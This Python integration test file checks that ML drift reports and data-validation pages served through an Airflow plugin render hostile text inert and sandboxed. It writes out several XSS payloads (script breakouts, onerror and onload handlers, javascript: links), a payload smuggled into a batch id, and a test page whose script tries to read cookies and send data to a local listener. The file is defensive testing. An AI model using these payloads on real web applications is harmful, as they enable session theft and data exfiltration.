"""Hostile text from end to end (issue 12): served texts -> prediction log -> drift check -> report
in S3, and an uploaded batch -> extract -> data gate -> quarantine Data Docs in S3; each report
fetched through the ct_reports plugin on the real Airflow api-server, as a logged-in user, and
opened in headless Chromium. No payload may become an element or run; a listener on 127.0.0.1
that every payload calls must hear nothing. A report that still carried live script (it slipped
through) runs sandboxed: no cookie, no storage, no request to Airflow or anywhere else.
"""

from __future__ import annotations

import threading
import uuid
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pandas as pd
import pytest

from ml.extract import extract_snapshot
from ml.monitor import check_window
from ml.seed import seed_raw
from ml.validate import validate_snapshot
from tests.conftest import AGNEWS
from tests.integration.conftest import stack

# served_model: a registered version whose training split the drift check compares with
from tests.integration.test_drift_window import _log, _window, served_model  # noqa: F401
from tests.unit.test_report_safety import MARK, Elements

pytestmark = pytest.mark.integration

BASE_URL = "http://127.0.0.1:8080"
HEADERS = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
}

# What each probe reads in the page: did a payload run or make an element, is the page isolated?
STATE_JS = f"""({{
    pwned: window.__pwned === undefined ? null : String(window.__pwned),
    title: document.title,
    injected: document.querySelectorAll('[id^="{MARK}"]').length,
    origin: self.origin,
    cookie: (() => {{
        try {{ return 'readable: ' + document.cookie; }} catch (e) {{ return 'blocked'; }}
    }})(),
    text: document.body ? document.body.innerText : '',
}})"""
# The drift report draws itself (React); the served examples are on the "characteristic
# examples" tab, so the probe opens it before looking.
REPORT_PROBE = f"""(async () => {{
    const sleep = ms => new Promise(r => setTimeout(r, ms));
    for (let i = 0; i < 60; i++) {{
        if (document.body.innerText.includes("Drift in column 'text'")) break;
        await sleep(250);
    }}
    const tab = [...document.querySelectorAll('button, [role="tab"]')]
        .find(b => /current: characteristic examples/i.test(b.innerText));
    if (tab) tab.click();
    for (let i = 0; i < 60 && tab; i++) {{
        if (document.body.innerText.includes("served text")) break;
        await sleep(250);
    }}
    return {{tab: Boolean(tab), ...{STATE_JS}}};
}})()"""


class Listener:
    """An HTTP server on 127.0.0.1 that records every request: the payloads' exfiltration target."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def _hit(self) -> None:
                hits.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = do_OPTIONS = _hit

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.close()


def hostile_texts(listener: Listener) -> list[str]:
    """Payloads that, if they ever became markup, would set window.__pwned, make an element with
    an id starting with MARK and call the listener."""
    url = listener.url
    return [
        f"</script><script id={MARK}-script>window.__pwned=1;document.title='PWNED';"
        f"fetch('{url}/script')</script>",
        f"<img src={url}/img id={MARK}-img onerror=window.__pwned=2>",
        f"<svg id={MARK}-svg onload=window.__pwned=3;fetch('{url}/svg')></svg>",
        f'"><iframe id={MARK}-frame src={url}/frame></iframe>',
        f"'><a id={MARK}-link href=javascript:window.__pwned=4>a & b</a>",
        f"<!--<script id={MARK}-comment>window.__pwned=5</script>-->",
    ]


@pytest.fixture(scope="module")
def airflow(local_stack):
    """Logged-in REST client of the running Airflow (whose api-server hosts the plugin)."""
    import ui_check  # scripts/ is on sys.path (tests/integration/conftest.py)
    from airflow_client import AirflowClient

    try:
        ui_check.find_chromium()
    except ui_check.ChromiumNotFound:
        pytest.skip("chromium not installed: apt-get install chromium (scripts/setup.sh does it as root)")
    local_stack.require("s3", "mlflow", "airflow")
    return AirflowClient(BASE_URL, *stack.airflow_login())


def plugin_url(key: str) -> str:
    return f"{BASE_URL}/ct/reports/{quote(key)}"


def fetch_report(airflow, key: str) -> str:
    """The report through the plugin, as the logged-in user; its headers must keep it inert."""
    response = airflow.session.get(plugin_url(key), timeout=60)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "text/html; charset=utf-8"
    for name, value in HEADERS.items():
        assert response.headers[name] == value, (name, response.headers)
    policy = response.headers["content-security-policy"]
    assert "sandbox allow-scripts" in policy and "allow-same-origin" not in policy, policy
    assert "connect-src 'none'" in policy and "default-src 'none'" in policy, policy
    assert "set-cookie" not in response.headers
    return response.text


def open_in_browser(probes: dict[str, tuple[str, str]], tmp_path) -> dict[str, dict]:
    from ui_check import inspect_pages

    report, results = inspect_pages(BASE_URL, *stack.airflow_login(), probes, tmp_path)
    assert not report.failures, report.failures
    assert set(results) == set(probes), report.checks
    return results


def assert_inert(name: str, result: dict, listener: Listener) -> None:
    state = result["value"]
    assert state["pwned"] is None, (name, state["pwned"])
    assert state["injected"] == 0 and state["title"] != "PWNED", (name, state)
    assert state["origin"] == "null", f"{name}: not sandboxed into an opaque origin ({state['origin']})"
    assert state["cookie"] == "blocked", (name, state["cookie"])
    assert listener.hits == [], (name, listener.hits)


def test_hostile_served_texts_stay_text_from_log_to_browser(request, store, airflow, listener, tmp_path):
    settings, version, _ = request.getfixturevalue("served_model")
    texts = [
        f"{payload} served text {i} about zzqx" for i, payload in enumerate(hostile_texts(listener) * 50)
    ]
    start = _window(4)
    _log(store, settings, version, texts, ["World"] * len(texts), start)

    summary = check_window(settings, start, start + timedelta(hours=1), store=store)
    assert summary["verdict"] == "drift" and summary["report_key"], summary

    html = fetch_report(airflow, summary["report_key"])
    page = Elements(html)
    assert not page.injected(), page.injected()
    assert len(page.scripts) == 4, [s[:80] for s in page.scripts]  # the report's own scripts only

    result = open_in_browser({"drift-report": (plugin_url(summary["report_key"]), REPORT_PROBE)}, tmp_path)[
        "drift-report"
    ]
    assert result["value"]["tab"], "the report did not draw its characteristic examples tab"
    assert_inert("drift report", result, listener)
    # the examples are shown, as text
    shown = result["value"]["text"]
    assert sum(payload[:25] in shown for payload in hostile_texts(listener)) >= 2, shown[:3000]
    # the report's own scripts ran under the policy: no refusal, no error
    assert result["events"] == [], result["events"]


def test_hostile_batch_data_docs_stay_text_from_upload_to_browser(
    settings, store, airflow, listener, tmp_path
):
    cutoff = datetime(2026, 11, 21, tzinfo=UTC)
    seed_raw(settings, AGNEWS, batches=2, rows=120, end=cutoff.date().replace(day=19), store=store)
    payloads = hostile_texts(listener)
    rows = pd.read_csv(AGNEWS).groupby("label", group_keys=False).head(10).reset_index(drop=True)
    for i, payload in enumerate(payloads):
        rows.loc[i, "label"] = payload  # not an allowed label: listed as unexpected values
    batch_id = f"2026-11-20_<img src=x id={MARK}-batch onerror=window.__pwned=9>"  # from the upload's key
    store.put_bytes(f"raw/{settings.dataset}/{batch_id}/part.csv", rows.to_csv(index=False).encode())

    manifest = extract_snapshot(settings, run_id=f"run-{uuid.uuid4().hex[:6]}", cutoff=cutoff, store=store)
    summary = validate_snapshot(settings, manifest["snapshot_id"], store=store)
    (quarantined,) = summary["quarantined"]
    assert quarantined["batch_id"] == batch_id and quarantined["report_html"], quarantined
    docs = f"reports/validation/{manifest['snapshot_id']}/data_docs"
    keys = {"batch page": quarantined["report_html"], "docs index": f"{docs}/index.html"}

    for name, key in keys.items():
        page = Elements(fetch_report(airflow, key))
        assert not page.injected(), (name, page.injected())
        assert not [s for s in page.scripts if "<img" in s or "__pwned=" in s], name

    results = open_in_browser({name: (plugin_url(key), STATE_JS) for name, key in keys.items()}, tmp_path)
    for name, result in results.items():
        assert_inert(name, result, listener)
    shown = results["batch page"]["value"]["text"]
    assert payloads[1] in shown and payloads[3] in shown, shown[:2000]


SLIPPED = """<!DOCTYPE html><html><head><title>slipped</title></head><body><p>a report with live script</p>
<script>
window.__ran = true;
const probe = window.__probe = {origin: self.origin};
try { probe.cookie = 'readable: ' + document.cookie; } catch (e) { probe.cookie = 'blocked'; }
try { probe.storage = 'readable: ' + localStorage.length; } catch (e) { probe.storage = 'blocked'; }
probe.api = fetch('/api/v2/dags').then(r => 'answered ' + r.status, () => 'refused');
probe.out = fetch('LISTENER/fetch', {mode: 'no-cors'}).then(() => 'sent', () => 'refused');
new Image().src = 'LISTENER/img';
try { navigator.sendBeacon('LISTENER/beacon', 'x'); } catch (e) {}
const form = document.createElement('form');
form.method = 'POST'; form.action = 'LISTENER/form';
document.body.appendChild(form);
try { form.submit(); } catch (e) {}
</script></body></html>"""
SLIPPED_PROBE = """(async () => {
    await new Promise(r => setTimeout(r, 1500));
    const p = window.__probe || {};
    return {ran: window.__ran === true, origin: p.origin, cookie: p.cookie, storage: p.storage,
            api: await p.api, out: await p.out, title: document.title};
})()"""


def test_a_report_with_live_script_runs_sandboxed(store, airflow, listener, tmp_path):
    key = f"reports/it-{uuid.uuid4().hex[:10]}/slipped.html"
    store.put_bytes(key, SLIPPED.replace("LISTENER", listener.url).encode(), "text/html")
    fetch_report(airflow, key)

    result = open_in_browser({"slipped": (plugin_url(key), SLIPPED_PROBE)}, tmp_path)["slipped"]
    state = result["value"]
    assert state["ran"] and state["title"] == "slipped", state  # scripts run, and stay on the page
    assert state["origin"] == "null", state
    assert state["cookie"] == "blocked" and state["storage"] == "blocked", state
    assert state["api"] == "refused" and state["out"] == "refused", state
    assert listener.hits == [], listener.hits
